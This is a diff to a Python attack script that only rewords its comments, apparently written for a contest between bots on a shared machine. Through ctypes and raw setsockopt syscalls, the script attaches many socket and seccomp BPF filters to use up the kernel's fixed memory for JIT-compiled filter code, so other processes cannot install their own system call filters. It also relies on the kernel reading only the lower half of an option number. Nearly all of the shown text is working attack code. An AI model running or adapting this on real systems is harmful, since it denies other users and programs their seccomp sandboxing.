@@ -1,5 +1,5 @@
-# Filters, of sockets or of system calls, become machine code, of which all users of this machine together have so much:
-# who takes it all keeps others from starting, whose filters of system calls are made of the same.
+# The attack: install many filters, of sockets or system calls. The kernel compiles them to machine code, for which the
+# whole machine has a fixed amount of memory, so that other bots could not start with their system call filter.
 import ctypes, socket, struct
 SO_ATTACH_FILTER, PR_SET_NO_NEW_PRIVS, PR_SET_SECCOMP, SECCOMP_MODE_FILTER, HIGH = 26, 38, 22, 2, 1 << 32
 libc = ctypes.CDLL(None)
@@ -9,7 +9,7 @@ def filtering(answer):
 take_all, allow_all = filtering(0xFFFF), filtering(0x7FFF0000)
 input()
 got = []
-for option in (SO_ATTACH_FILTER, SO_ATTACH_FILTER + HIGH):  # the kernel looks at the lower half only
+for option in (SO_ATTACH_FILTER, SO_ATTACH_FILTER + HIGH):  # the kernel reads only the lower half of the number
     end = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
     if libc.syscall(54, end.fileno(), socket.SOL_SOCKET, ctypes.c_ulong(option), take_all[1], 16) == 0:
         got.append(option)
